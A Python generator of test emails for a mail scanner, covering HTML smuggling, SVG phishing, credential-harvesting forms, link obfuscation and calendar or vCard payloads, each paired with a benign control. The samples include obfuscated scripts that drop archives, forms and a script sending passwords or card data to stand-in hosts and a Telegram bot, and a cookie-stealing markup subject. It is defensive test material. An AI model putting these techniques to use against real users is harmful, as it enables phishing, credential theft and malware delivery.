#!/usr/bin/python3
"""Write the cases about web pages, SVG pictures and what is hidden in them.

As make-cases.py, from which the helpers come: every message is made up, the
programs are headers without code. Usage: tests/cases/make_web.py [NAME…]
"""

import base64
import importlib.util
import json
import pathlib
import sys
import urllib.parse

HERE = pathlib.Path(__file__).resolve().parent
_spec = importlib.util.spec_from_file_location("make_cases",
                                               HERE / "make-cases.py")
m = importlib.util.module_from_spec(_spec)
_spec.loader.exec_module(m)
CASES = {}


def case(function):
    CASES[function.__name__.replace("_", "-")] = function
    return function


def b64(data):
    return base64.b64encode(data).decode()


def page(html, name="document.html", kind="text/html", **more):
    return m.with_file(name, html.encode(), kind,
                       subject=more.pop("subject", "Your document"), **more)


def program_zip():
    return m.archive(("invoice.exe", m.program(bytes(range(200)))))


SAVE = """var blob=new Blob([bytes],{type:'application/octet-stream'});
var a=document.createElement('a');a.href=URL.createObjectURL(blob);
a.download='invoice.zip';document.body.appendChild(a);a.click();"""
TEXT = ("This report lists what was measured in the last month, with the "
        "figures of the month before beside it. Numbers in brackets are "
        "estimates, as the devices in the second building were exchanged on "
        "the ninth. The lines without a figure belong to rooms that were not "
        "in use. Please tell us about anything that looks odd to you before "
        "the end of the week, so that the final version can be printed. The "
        "table can be sorted by each of its columns, and be saved as text "
        "for other programs with the button below it.")
LOGIN = ('<form method="post" action="%s"><input name="user"><input '
         'type="password" name="pass"><button>Sign in</button></form>')


# --- smuggled files -------------------------------------------------------------

@case
def smuggle_base64():
    """A script that turns base64 into an archive with a program, and saves
    it."""
    return (page("<html><body>Opening your invoice…<script>var d=atob('%s');"
                 "var bytes=new Uint8Array(d.length);for(var i=0;i<d.length;"
                 "i++)bytes[i]=d.charCodeAt(i);%s</script></body></html>"
                 % (b64(program_zip()), SAVE)),
            m.malware("HTML_SMUGGLING", parts=[
                m.part("2/invoice.zip/invoice.exe")]))


@case
def smuggle_pieces():
    """The same in pieces, backwards, in a list."""
    text = b64(program_zip())[::-1]
    pieces = ["'%s'" % text[i:i + 61] for i in range(0, len(text), 61)]
    return (page("<script>var p=[%s];var bytes=atob(p.join('').split('')"
                 ".reverse().join(''));%s</script>"
                 % (",".join(pieces), SAVE)),
            m.malware("HTML_SMUGGLING"))


@case
def smuggle_sum():
    """In variables that are added up, with a letter to be taken out."""
    text = b64(program_zip())
    pieces = [text[i:i + 200] for i in range(0, len(text), 200)]
    code = "var s='';\n" + "".join(
        "s=s+'%s';\n" % "~".join(p[i:i + 9] for i in range(0, len(p), 9))
        for p in pieces)
    return (page("<script>%svar bytes=window['at'+'ob'](s.replace(/~/g,''));"
                 "%s</script>" % (code, SAVE)),
            m.malware("HTML_SMUGGLING"))


@case
def smuggle_hex():
    """In hexadecimal digits."""
    return (page("<script>var h='%s',bytes=new Uint8Array(h.length/2);for("
                 "var i=0;i<h.length;i+=2)bytes[i/2]=parseInt(h.substr(i,2),"
                 "16);%s</script>" % (program_zip().hex(), SAVE)),
            m.malware("HTML_SMUGGLING"))


@case
def smuggle_numbers():
    """As a list of numbers, each XORed with a constant."""
    numbers = ",".join(str(byte ^ 0x5a) for byte in program_zip())
    return (page("<script>var n=[%s];var bytes=new Uint8Array(n.map(function"
                 "(c){return c^90}));%s</script>" % (numbers, SAVE)),
            m.malware("HTML_SMUGGLING"))


@case
def smuggle_key():
    """In base64, XORed with a word that stands beside it."""
    key = b"meadow"
    data = bytes(byte ^ key[i % len(key)]
                 for i, byte in enumerate(program_zip()))
    return (page("<script>var k='meadow',d=atob('%s'),bytes=[];for(var i=0;i<"
                 "d.length;i++)bytes.push(d.charCodeAt(i)^k.charCodeAt(i%%k."
                 "length));%s</script>" % (b64(data), SAVE)),
            m.malware("HTML_SMUGGLING"))


@case
def smuggle_layers():
    """A page that writes a page that runs a script that saves a disk image."""
    image = m.iso([("run.lnk", m.lnk())])
    inner = "var bytes=atob('%s');%s" % (b64(image), SAVE)
    middle = "<html><body onload=\"eval(atob('%s'))\"></body></html>" % b64(
        inner.encode())
    return (page("<script>document.write(unescape('%s'))</script>"
                 % urllib.parse.quote(middle)),
            m.malware("HTML_SMUGGLING"))


@case
def smuggle_attribute():
    """The data stand in an attribute, the script is short."""
    return (page('<div id="x" data-file="%s"></div><script>var bytes=atob('
                 "document.getElementById('x').dataset.file);%s</script>"
                 % (b64(program_zip()), SAVE)),
            m.malware("HTML_SMUGGLING"))


@case
def smuggle_svg():
    """In a picture."""
    return (page('<svg xmlns="http://www.w3.org/2000/svg"><script><![CDATA['
                 "var bytes=atob('%s');%s]]></script></svg>"
                 % (b64(program_zip()), SAVE), "plan.svg", "image/svg+xml"),
            m.malware("HTML_SMUGGLING", "SVG_PHISHING"))


@case
def smuggle_report_control():
    """A report with a font and pictures in its scripts, an archive of data,
    and a button that saves a table."""
    data = m.archive(("report.json", b'{"rooms": [1, 2, 3]}'))
    return (page('<html><head><style>@font-face{font-family:x;src:url(data:'
                 'font/woff2;base64,%s)}</style></head><body><p>%s</p><button'
                 ' onclick="save()">Save</button><script>window.data="data:'
                 'application/zip;base64,%s";var logo="data:image/png;base64,'
                 '%s";function save(){var bytes=table.innerText;%s}</script>'
                 '</body></html>'
                 % (b64(b"wOF2" + bytes(300)), TEXT, b64(data),
                    b64(m.png()), SAVE.replace("invoice.zip", "table.csv")),
                 "report.html"),
            dict(verdict="clean", action="allow", absent=[
                "HTML_SMUGGLING", "SMUGGLED_ARCHIVE", "HTML_SELF_SAVING"]))


@case
def self_saving():
    """What is saved cannot be read: its key comes from elsewhere."""
    data = bytes((i * 167 + (i >> 3) * 59 + 13) & 255 for i in range(3000))
    return (page("<script>var d=atob('%s');var bytes=open(d,location.hash);"
                 "%s</script>" % (b64(data), SAVE)),
            m.suspicious("HTML_SELF_SAVING"))


@case
def self_saving_control():
    """A report that decodes its table and can save it."""
    return (page("<p>%s</p><script>var t=atob('%s');function save(bytes){%s}"
                 "</script>" % (TEXT, b64(b"room;degrees\n1;20\n" * 20),
                                SAVE), "report.html"),
            m.CLEAN)


# --- pages that write themselves ----------------------------------------------------

@case
def self_writing():
    """A log-in page in percent signs."""
    inner = "<html><body><h1>Mail</h1>%s</body></html>" % (
        LOGIN % "https://collect.example.com/p.php")
    return (page("<script>document.write(unescape('%s'));</script>"
                 % "".join("%%%02x" % c for c in inner.encode())),
            m.phishing("HTML_SELF_WRITING", "HTML_ATTACHMENT_LOGIN",
                       "PASSWORD_FORM"))


@case
def self_writing_control():
    """What a counter's snippet does on millions of pages, in a saved one."""
    return (page("<html><body><p>%s</p><script>var h='https:'==document."
                 "location.protocol?'https://ssl.':'http://www.';document."
                 "write(unescape(\"%%3Cscript src='\"+h+\"counter.example.com"
                 "/c.js' type='text/javascript'%%3E%%3C/script%%3E\"));"
                 "</script></body></html>" % TEXT, "article.html"), m.CLEAN)


@case
def obfuscated():
    """Fields to fill in, and a script whose names say nothing."""
    names = "".join("var _0x%06x=_0x%06x[_0x%06x(0x%x)];"
                    % (i * 77773 & 0xffffff, i * 9311 & 0xffffff,
                       i * 513 & 0xffffff, i) for i in range(60))
    return (page("<body>Mailbox full<input name=mail><script>%s</script>"
                 % names), dict(verdict="clean", action="allow",
                                symbols=["HTML_OBFUSCATED"]))


@case
def obfuscated_control():
    """A script with short names, as programs make them smaller."""
    code = "".join("function a%d(e,t){return e+t*%d}" % (i, i)
                   for i in range(60))
    return (page("<body>Survey<input name=mail><script>%s</script>" % code),
            m.CLEAN)


# --- log-ins ---------------------------------------------------------------------------

@case
def attachment_login():
    """An attached page that sends a password to a stranger."""
    return (page('<html><title>Sign in</title><img src="https://www.bank.'
                 'example/logo.png">%s</html>'
                 % (LOGIN % "https://collect.example.com/login.php")),
            m.phishing("HTML_ATTACHMENT_LOGIN", "PASSWORD_FORM"))


@case
def attachment_login_script():
    """The same by a script."""
    return (page('<input type=email id=m><input type=password id=p><button '
                 "onclick=\"fetch('https://collect.example.com/x',{method:"
                 "'POST',body:m.value+p.value})\">Open</button>"),
            m.phishing("HTML_ATTACHMENT_LOGIN"))


@case
def attachment_login_control():
    """A saved page of a shop, with the shop's own log-in."""
    return (page('<html><base href="https://www.shop.example/"><a href="/a">'
                 'Shoes</a><a href="/b">Hats</a><img src="/logo.png"><p>%s'
                 '</p>%s</html>' % (TEXT, LOGIN
                                    % "https://www.shop.example/login"),
                 "Shoes.html"),
            dict(verdict="suspicious", action="flag",
                 only=["PASSWORD_FORM"]))


@case
def sends_to_chat():
    """What is typed in goes to a bot of a chat."""
    return (page('<input name=card><script>function go(){fetch("https://api.'
                 'telegram.org/bot1:AA/sendMessage",{method:"POST",body:'
                 'card.value})}</script>'),
            m.phishing("HTML_SENDS_TO_CHAT"))


@case
def sends_to_chat_control():
    """A link to a chat, and a form of the sender's own."""
    return (page('<p>Write to us at <a href="https://t.me/example">t.me/exam'
                 'ple</a> or here.</p><form action="https://www.example.org/'
                 'ask"><input name=question></form>'), m.CLEAN)


# --- elsewhere at once --------------------------------------------------------------------

@case
def instant_redirect():
    """A page of nothing but a way on."""
    return (page('<html><meta http-equiv="refresh" content="0;url=https://'
                 'login.example.com/?u=anna@example.net"></html>'),
            m.suspicious("HTML_INSTANT_REDIRECT"))


@case
def instant_redirect_script():
    """The same by a script, whose address is put together."""
    return (page("<script>var a='https://login.'+['exa','mple'].join('')+"
                 "'.com/';window['location']['href']=a+'?u=anna';</script>"),
            m.suspicious("HTML_INSTANT_REDIRECT"))


@case
def instant_redirect_control():
    """A report that loads itself anew every five minutes, and a page with
    links."""
    return (page('<html><meta http-equiv="refresh" content="300"><p>%s</p>'
                 '<a href="https://www.example.org/">more</a></html>'
                 % TEXT, "status.html"), m.CLEAN)


# --- pictures ---------------------------------------------------------------------------------

SVG = '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">%s</svg>'


def svg(content, name="logo.svg"):
    return page('<?xml version="1.0"?>' + SVG % content, name,
                "image/svg+xml")


@case
def svg_redirect():
    """A picture that leads to a page when it is opened."""
    return (svg("<script>window.location.href='https://login.example.com/'+"
                "btoa('anna')</script>"), m.phishing("SVG_PHISHING"))


@case
def svg_handler():
    """The same with a handler, in character references."""
    return (svg('<rect width="9" height="9"/><image href="x" onerror="'
                '&#108;ocation&#46;replace(&#39;https://login.example.com/'
                '&#39;)"/>'), m.phishing("SVG_PHISHING"))


@case
def svg_form():
    """A picture with a page in it that asks for a password."""
    return (svg('<foreignObject width="9" height="9"><body xmlns="http://www.'
                'w3.org/1999/xhtml">%s</body></foreignObject>'
                % (LOGIN % "https://collect.example.com/")),
            m.phishing("SVG_PHISHING", "HTML_ATTACHMENT_LOGIN"))


@case
def svg_script():
    """A chart whose bars can be clicked."""
    return (svg('<script>function zoom(e){e.setAttribute("height",9)}</script'
                '><rect onclick="zoom(this)" width="3" height="3"/>'),
            dict(verdict="clean", action="allow", symbols=["SVG_SCRIPT"]))


@case
def svg_control():
    """A logo with a style, a link and a picture inside."""
    return (svg('<style>.a{fill:url(#g)}</style><defs><linearGradient id="g"/>'
                '</defs><a href="https://www.example.org/"><rect class="a" '
                'width="9" height="9"/></a><image href="data:image/png;base64'
                ',%s"/>' % b64(m.png())), m.CLEAN)


# --- in the mail itself ----------------------------------------------------------------------------

@case
def script_in_mail():
    """An old newsletter that writes into the status line."""
    return (m.with_html('<a href="https://www.example.org/" onmouseover="'
                        "window.status='News'\">News</a>"),
            dict(verdict="clean", action="allow",
                 symbols=["HTML_SCRIPT_IN_MAIL"]))


@case
def script_in_mail_control():
    """Data for machines, as shops put them into their mails."""
    return (m.with_html('<script type="application/ld+json">{"@type":"Order",'
                        '"url":"https://www.example.org/o/1"}</script><p>Thank'
                        ' you.</p>', subject="Your order"), m.CLEAN)


@case
def protocol_handler():
    """A link that installs a program."""
    return (m.with_html('<a href="ms-appinstaller:?source=https://files.'
                        'example.com/a.msix">Open</a>'),
            m.malware("LINK_OPENS_HANDLER"))


@case
def protocol_handler_control():
    """A meeting, a telephone number, a chat."""
    return (m.with_html('<a href="zoommtg://zoom.example/join?confno=1">Join'
                        '</a> <a href="tel:+1555">call</a> <a href="msteams:'
                        '/l/meetup-join/1">Teams</a>'), m.CLEAN)


@case
def markup_in_name():
    """A subject that runs in careless web mail."""
    return (m.with_html("<p>Hello</p>",
                        subject="<img src=x onerror=alert(document.cookie)>"),
            dict(verdict="clean", action="allow",
                 symbols=["MARKUP_IN_NAME"]))


@case
def markup_in_name_control():
    """A subject about such things."""
    return (m.with_html("<p>Hello</p>", subject='Re: where to put the '
                        '<script> tag, and "onload" (was: <head>)'), m.CLEAN)


# --- links, however they are written -------------------------------------------------

URL = "https://evil.example/x"


def raw_text(body, kind, charset, more=""):
    """A mail whose one part are exactly these bytes, in base64."""
    head = "Content-Type: text/%s%s%s" % (
        kind, "; charset=" + charset if charset else "", more)
    return m.mail("A link", "%s\r\nContent-Transfer-Encoding: base64\r\n\r\n"
                  "%s\r\n" % (head, m.encode(body)))


# Each makes a mail in which somebody's mail program finds a link to URL.
LINKS = {
    "entities": "<a href='&#104;ttps&#x3A;//evil&#46example&sol;x'>a</a>",
    "entities-long": "<a href='&#x0000000000068;ttps&colon;//evil.example/x'>"
                     "a</a>",
    "line-ends": "<a href='ht\ntps:/\t/ev&NewLine;il.exa&Tab;mple/x'>a</a>",
    "unquoted": "<a href=https://evil.example/x>a</a>",
    "base": "<base href='https://evil.example/'><a href='x'>a</a>",
    "refresh": "<meta http-equiv='Refresh' content='5; URL=&quot;https://evil"
               ".example/x&quot;'>",
    "refresh-short": "<meta content='0;https://evil.example/x' http-equiv="
                     "refresh>",
    "form": "<form action='https://evil.example/x'><button>a</button></form>",
    "formaction": "<form><input type=image formaction='https://evil.example/x'"
                  "></form>",
    "ping": "<a href='https://www.example.org/' ping='https://evil.example/x'"
            ">a</a>",
    "srcset": "<img srcset='a.png 1x, https://evil.example/x 2x'>",
    "style": "<p style='background:url(https://evil.example/x)'>a</p>",
    "style-escapes": "<p style='background:\\75 rl(https\\3a //evil.example/x)'>"
                     "a</p>",
    "style-sheet": "<style>/* */@import \"https://evil.example/x\";</style>",
    "background": "<table background='https://evil.example/x'><tr><td>a",
    "frame": "<iframe src='https://evil.example/x'></iframe>",
    "object": "<object data='https://evil.example/x'></object>",
    "conditional": "<!--[if mso]><a href='https://evil.example/x'>a</a>"
                   "<![endif]-->",
    "comment-end": "<!-- a --!><a href='https://evil.example/x'>b</a>",
    "vml": "<v:rect href='https://evil.example/x'><v:fill src='a'/></v:rect>",
    "svg": "<svg><a xlink:href='https://evil.example/x'><text>a</text></a>"
           "</svg>",
    "svg-animation": "<svg><a><animate attributeName='href' values='https://"
                     "evil.example/x'/><text>a</text></a></svg>",
    "math": "<math><mi href='https://evil.example/x'>a</mi></math>",
    "source-document": "<iframe srcdoc=\"<a href='https&colon;//evil.example/x"
                       "'>a</a>\"></iframe>",
    "data-page": "<a href='data:text/html,%3Ca%20href=https://evil.example/x"
                 "%3Ea'>a</a>",
    "script-url": "<a href=\"javascript:location='https://evil.exam'+'ple/x'"
                  "\">a</a>",
    "text": "<p>Go to https://evil.example/x, please.</p>",
}
CHARSETS = {
    "utf-16": ("utf-16le", "utf-16"), "utf-16-big": ("utf-16be", "utf-16"),
    "utf-16-mark": ("utf-16", ""), "utf-16-nothing": ("utf-16be", ""),
    "utf-32": ("utf-32le", "utf-32"), "utf-32-mark": ("utf-32", ""),
    "utf-7": ("utf-7", "utf-7"), "utf-7-nothing": ("utf-7", "us-ascii"),
    "ebcdic": ("cp037", "ibm037"), "shift-jis": ("shift_jis", "shift_jis"),
    "iso-2022": ("iso2022_jp", "iso-2022-jp"), "hz": ("hz", "hz-gb-2312"),
}


def link_case(name, message):
    CASES["link-" + name] = lambda: (message, dict(
        verdict="clean", action="allow", urls=[URL]))
    CASES["link-" + name].__doc__ = "A link, hidden as the name says."


for _name, _html in LINKS.items():
    link_case(_name, m.with_html("<html><body>%s</body></html>" % _html))
for _name, (_codec, _charset) in CHARSETS.items():
    _page = "<html><body>\u4f60<a href='%s'>a</a></body></html>" % URL
    if _codec in ("cp037", "shift_jis", "iso2022_jp"):
        _page = _page.replace("\u4f60", "")
    _bytes = _page.encode(_codec)
    if _codec == "utf-7":
        _bytes = _bytes.replace(b"<", b"+ADw-").replace(b">", b"+AD4-")
    link_case("charset-" + _name, raw_text(_bytes, "html", _charset))


@case
def link_charset_page():
    """The header says one charset, the page another."""
    page_text = b"<html><meta charset=utf-7>+ADw-a href='%s'+AD4-a" % (
        URL.encode())
    return (raw_text(page_text, "html", "iso-8859-1"),
            dict(verdict="clean", action="allow", urls=[URL]))


@case
def link_slashes():
    """Slashes the other way, as browsers take them."""
    return (m.with_html("<a href='https:\\\\evil.example/x'>https://www."
                        "example.org/</a>"),
            m.phishing("LINK_TEXT_MISMATCH"))


@case
def link_named_page():
    """Called text, named as a page, and it begins with words."""
    return (m.with_file("note.html", b"Hello, <a href='//evil.example/x'>a"
                        b"</a>", "text/plain"),
            dict(verdict="clean", action="allow",
                 urls=["http://evil.example/x"]))


@case
def link_saved_by_word():
    """A page as Word saves it: a message without a sender, called a
    document."""
    return (m.with_file("minutes.doc", (
        "MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b\r\n"
        "\r\n--b\r\nContent-Type: text/html\r\nContent-Transfer-Encoding: "
        "base64\r\n\r\n%s\r\n--b--\r\n" % b64(
            b"<html><a href='https://evil.example/x'>a</a></html>")).encode(),
        "application/msword"),
            dict(verdict="clean", action="allow", urls=[URL]))


@case
def link_xml_page():
    """XML that a browser shows as a page."""
    return (m.with_file("list.xml", b"<?xml version='1.0'?><list xmlns:h='http:"
                        b"//www.w3.org/1999/xhtml'><h:a href='https://evil."
                        b"example/x'>a</h:a></list>", "text/xml"),
            dict(verdict="clean", action="allow", urls=[URL]))


@case
def link_flowed():
    """An address that goes over the end of a line (RFC 3676 4.2)."""
    return (raw_text(b"Go to https://evil.exam \r\nple/x \r\n", "plain",
                     "us-ascii", "; format=flowed; delsp=yes"),
            dict(verdict="clean", action="allow", urls=[URL]))


@case
def link_flowed_control():
    """Text that flows, but keeps its spaces."""
    return (raw_text(b"Go to https://www.example.org \r\nand sign in.\r\n",
                     "plain", "us-ascii", "; format=flowed"),
            dict(verdict="clean", action="allow", only=[],
                 urls=["https://www.example.org"]))


# --- calendars and cards ----------------------------------------------------------------

def calendar(lines, method="REQUEST"):
    text = "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nBEGIN:VEVENT\r\nUID:1\r\n"         "%s\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n" % "\r\n".join(lines)
    return m.mail("Meeting", "Content-Type: text/calendar; charset=utf-8; "
                  "method=%s\r\n\r\n%s" % (method, text))


@case
def calendar_folded():
    """An address over the fold of a line, and one before an escape."""
    return (calendar(["DESCRIPTION:Join at https://evil.exam\r\n ple/x\\n"
                      "Bring tea"]),
            dict(verdict="clean", action="allow", urls=[URL]))


@case
def calendar_page():
    """A description in HTML, whose link says that it leads elsewhere."""
    return (calendar(["SUMMARY:Tea", "X-ALT-DESC;FMTTYPE=text/html:<a href=\""
                      "https://evil.example/x\">https://www.example.org/</a>"
                      ]), m.phishing("LINK_TEXT_MISMATCH", urls=[URL]))


@case
def calendar_file():
    """A program inside an invitation."""
    text = b64(m.program())
    lines = ["ATTACH;VALUE=BINARY;ENCODING=BASE64;FILENAME=\"tea.exe\":"
             + text[:40]]
    lines += [" " + text[i:i + 70] for i in range(40, len(text), 70)]
    return (calendar(lines), m.suspicious("EXECUTABLE_ATTACHMENT", parts=[
        m.part("1/tea.exe", name="tea.exe")]))


@case
def calendar_program():
    """An alarm that starts a program."""
    return (calendar(["BEGIN:VALARM", "ACTION:PROCEDURE",
                      "TRIGGER:-PT5M", "ATTACH:file://host.example/a.exe",
                      "END:VALARM"]), m.suspicious("CALENDAR_PROGRAM"))


@case
def calendar_program_control():
    """An alarm with a sound."""
    return (calendar(["BEGIN:VALARM", "ACTION:AUDIO", "TRIGGER:-PT5M",
                      "ATTACH;FMTTYPE=audio/basic:https://www.example.org/"
                      "bell.au", "END:VALARM"]), m.CLEAN)


@case
def card_old():
    """A card of the old kind: quoted-printable, and a key that is none."""
    text = b64(m.program())
    card = ("BEGIN:VCARD\r\nVERSION:2.1\r\nN:Roth;Ben\r\nNOTE;ENCODING="
            "QUOTED-PRINTABLE:See https://evil.exam=\r\nple=2Fx=0D=0Anow"
            "\r\nKEY;ENCODING=BASE64:\r\n"
            + "".join("  %s\r\n" % text[i:i + 70]
                      for i in range(0, len(text), 70))
            + "\r\nEND:VCARD\r\n")
    return (m.with_file("ben.vcf", card.encode(), "text/vcard"),
            m.suspicious("EXECUTABLE_ATTACHMENT", urls=[URL]))


def write(name):
    message, expect = CASES[name]()
    folder = HERE / name
    folder.mkdir(exist_ok=True)
    if isinstance(message, str):
        message = message.encode("utf-8")
    (folder / "message.eml").write_bytes(message)
    why = " ".join((CASES[name].__doc__ or "").split())
    (folder / "expect.json").write_text(
        json.dumps(dict(why=why, **expect), indent="\t", ensure_ascii=False)
        + "\n")


if __name__ == "__main__":
    for wanted in sys.argv[1:] or CASES:
        write(wanted)
